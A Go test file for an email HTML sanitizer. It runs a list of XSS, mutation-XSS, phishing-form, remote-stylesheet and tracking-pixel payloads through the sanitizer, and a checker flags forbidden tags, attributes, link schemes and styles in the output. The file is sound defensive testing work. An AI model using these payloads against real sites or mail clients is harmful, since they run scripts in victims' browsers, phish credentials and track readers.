package htmlsafe_test

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/parleydesk/parley/internal/htmlsafe"
)

// attacks are ways to run a script, to send data away, to draw over the page or to
// leave the element a mail stands in.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<img """><script>alert(1)</script>">`,
	`<img src=x:alert(alt) onerror=eval(src) alt=1>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<style><img src="</style><img src=x onerror=alert(1)//">`,
	`<style>@import 'http://evil.example/x.css';</style>`,
	`<link rel=stylesheet href=http://evil.example/x.css>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<base href="http://evil.example/">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="data:image/svg+xml;base64,PHN2Zz4=">`,
	`<form action=http://evil.example><input name=password><button>Sign in</button></form>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<textarea autofocus onfocus=alert(1)></textarea>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<select><option><style></select><img src=x onerror=alert(1)></style>`,
	`<template><script>alert(1)</script></template>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<body onload=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="/accounts/1/settings">relative</a>`,
	`<a href="//evil.example/x">no scheme</a>`,
	`<a href="https://ok.example" target=_self rel=opener onclick=alert(1) style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<div style="background-image:url(http://evil.example/t.gif)">x</div>`,
	`<div style="color:expression(alert(1))">x</div>`,
	`<div style="color:red;background-color:url(http://evil.example)">x</div>`,
	`<div style="position:fixed;inset:0;z-index:9999">x</div>`,
	`<div style="width:1px;-moz-binding:url(http://evil.example/x.xml#x)">x</div>`,
	`<div id=csrf class=flash name=x hx-get=/logout hx-trigger=load data-hx-get=/logout>x</div>`,
	`<img name=cookie id=getElementById src=cid:1>`,
	`<img src="http://tracker.example/1.gif" srcset="http://tracker.example/2.gif 2x">`,
	`<table background="http://tracker.example/1.gif"><tr><td background="http://tracker.example/2.gif">x`,
	`<input type=image src=http://tracker.example/1.gif>`,
	`</div></div></div></section></main></body></html><h1>outside</h1>`,
	`<div><div><table><tr><td><b><i><a href="https://x.example">open`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<xss style="behavior:url(xss.htc)">`,
	`<plaintext>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<title><img title="</title><img src=x onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<p>&lt;img src=x onerror=alert(1)&gt;</p>`,
	`<font color="red onmouseover=alert(1)">x</font>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	"<img src=\"data:text/html,<script>alert(1)</script>\">",
	"\x00<scr\x00ipt>alert(1)</script>",
	`<a href="tel:+1">t</a><a href="mailto:x@y.example?body=&lt;script&gt;">m</a>`,
	strings.Repeat("<div>", 5000),
	strings.Repeat("<b><p>", 600) + "x" + strings.Repeat("</b>", 600),
	strings.Repeat("<", 5000),
	strings.Repeat("<a ", 5000),
}

func TestMailIsHarmless(t *testing.T) {
	t.Parallel()
	for i, attack := range attacks {
		t.Run(fmt.Sprintf("attack %d: %.40s", i, attack), func(t *testing.T) {
			t.Parallel()
			if fault := harm(htmlsafe.Mail(attack, nil)); fault != "" {
				t.Errorf("%s\n in:  %.300s\n out: %.300s", fault, attack, htmlsafe.Mail(attack, nil))
			}
			if fault := harm(htmlsafe.Markdown(attack)); fault != "" {
				t.Errorf("as Markdown: %s\n out: %.300s", fault, htmlsafe.Markdown(attack))
			}
		})
	}
}

func FuzzMail(f *testing.F) {
	for _, attack := range attacks {
		if len(attack) < 1000 {
			f.Add(attack)
		}
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := htmlsafe.Mail(in, nil)
		if fault := harm(out); fault != "" {
			t.Fatalf("%s\n in:  %q\n out: %q", fault, in, out)
		}
		if fault := harm(htmlsafe.Markdown(in)); fault != "" {
			t.Fatalf("as Markdown: %s\n in: %q\n out: %q", fault, in, htmlsafe.Markdown(in))
		}
		if again := htmlsafe.Mail(out, nil); again != out {
			t.Fatalf("not stable: %q → %q → %q", in, out, again)
		}
		_ = htmlsafe.Text(in)
		fresh, quoted := htmlsafe.SplitQuoteHTML(in)
		if fresh+quoted != in {
			t.Fatalf("parts of %q do not join: %q, %q", in, fresh, quoted)
		}
		if fresh, quoted = htmlsafe.SplitQuote(in); fresh+quoted != in {
			t.Fatalf("parts of %q do not join: %q, %q", in, fresh, quoted)
		}
	})
}

func TestMailKeepsWhatPeopleSend(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ what, in, want string }{
		{
			"text and structure", `<p>Hi <b>you</b><br>there</p><ul><li>one</li></ul>`,
			`<p>Hi <b>you</b><br>there</p><ul><li>one</li></ul>`,
		},
		{
			"links open elsewhere and tell nothing", `<a href="https://x.example/a?b=1&amp;c=2" title=t>x</a>`,
			`<a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
		},
		{"a dead link keeps its words", `<a href="javascript:x">click</a>`, `click`},
		{
			"colours stay, layout tricks go", `<span style="color: red; position: absolute">x</span>`,
			`<span style="color: red">x</span>`,
		},
		{
			"remote pictures wait", `<img src="https://x.example/a.png" alt="A">`,
			`<img data-src="https://x.example/a.png" alt="A" loading="lazy" referrerpolicy="no-referrer">`,
		},
		{
			"tables keep their shape", `<table cellpadding="3"><tr><td colspan="2" align="right">x</td></tr></table>`,
			`<table cellpadding="3"><tr><td colspan="2" align="right">x</td></tr></table>`,
		},
		{
			"a link whose words name another host says where it leads", `<a href="https://x.example/a">www.bank.example</a>`,
			a("https://x.example/a", "www.bank.example (x.example)"),
		},
		{
			"a link whose words name its host says no more", `<a href="https://www.x.example/a">Go to x.example</a>`,
			a("https://www.x.example/a", "Go to x.example"),
		},
		{
			"a link in a link ends the first", `<a href="https://x.example">x<b><a href="https://y.example">y</a></b></a>`,
			a("https://x.example", "x<b></b>") + a("https://y.example", "y"),
		},
		{"open elements are closed", `<div><p>x`, `<div><p>x</p></div>`},
		{"stray ends go", `x</div></p>y`, `xy`},
	} {
		t.Run(c.what, func(t *testing.T) {
			t.Parallel()
			if got := htmlsafe.Mail(c.in, nil); got != c.want {
				t.Errorf("\n got %s\nwant %s", got, c.want)
			}
		})
	}

	t.Run("what was made safe and stored can be shown with its pictures", func(t *testing.T) {
		t.Parallel()
		kept := htmlsafe.Mail(`<img src="cid:a@b">`, nil)
		if got := htmlsafe.Mail(kept, func(src string) string { return "/f?" + src }); !strings.Contains(got, ` src="/f?cid:a@b"`) {
			t.Errorf("got %s", got)
		}
	})

	t.Run("pictures are shown from where the caller says", func(t *testing.T) {
		t.Parallel()
		got := htmlsafe.Mail(`<img src="cid:logo@x"><img src="https://x.example/a.png">`, func(src string) string {
			if src == "cid:logo@x" {
				return `/files/7?a="b"`
			}
			return ""
		})
		if !strings.Contains(got, `src="/files/7?a=&#34;b&#34;"`) || !strings.Contains(got, `data-src="https://x.example/a.png"`) {
			t.Errorf("got %s", got)
		}
	})
}

// harm reads out as a browser would and names the first thing in it that should not be there.
func harm(out string) string {
	doc, err := html.Parse(strings.NewReader(`<!DOCTYPE html><html><head></head><body><div id="box">` + out +
		`</div><p id="after">x</p></body></html>`))
	if err != nil {
		return err.Error()
	}
	var box, after *html.Node
	for n := range doc.Descendants() {
		for _, a := range n.Attr {
			if a.Key == "id" && a.Val == "box" {
				box = n
			} else if a.Key == "id" {
				if after != nil || a.Val != "after" {
					return "an id of its own"
				}
				after = n
			}
		}
	}
	if after == nil || after.Parent != box.Parent || after.PrevSibling != box {
		return "it left its box"
	}
	for n := range box.Descendants() {
		if n.Type == html.CommentNode {
			return "a comment"
		}
		if n.Type != html.ElementNode {
			continue
		}
		if n.Namespace != "" || slices.Contains(strings.Fields("script style iframe object embed form input button "+
			"textarea select svg math link meta base template noscript video audio source details dialog title xmp plaintext"), n.Data) {
			return "element " + n.Data
		}
		for _, a := range n.Attr {
			if fault := harmfulAttribute(n.Data, a); fault != "" {
				return fault
			}
		}
	}
	return ""
}

func harmfulAttribute(element string, a html.Attribute) string {
	allowed := strings.Fields("href rel target width height cellpadding cellspacing border colspan rowspan align valign " +
		"bgcolor color dir src data-src alt loading referrerpolicy style start value")
	if !slices.Contains(allowed, a.Key) {
		return "attribute " + a.Key
	}
	switch a.Key {
	case "href":
		u, err := url.Parse(a.Val)
		if err != nil || element != "a" || !slices.Contains([]string{"http", "https", "mailto", "tel"}, u.Scheme) {
			return "link to " + a.Val
		}
	case "src":
		if !strings.HasPrefix(a.Val, "data:image/") || strings.Contains(a.Val, "svg") {
			return "picture from " + a.Val
		}
	case "style":
		for _, word := range []string{"url", "(", "position", "expression", "import", "\\"} {
			if strings.Contains(strings.ToLower(a.Val), word) && !strings.Contains(a.Val, "rgb(") &&
				!strings.Contains(a.Val, "hsl") && !strings.Contains(a.Val, "rgba(") {
				return "style " + a.Val
			}
		}
	}
	return ""
}
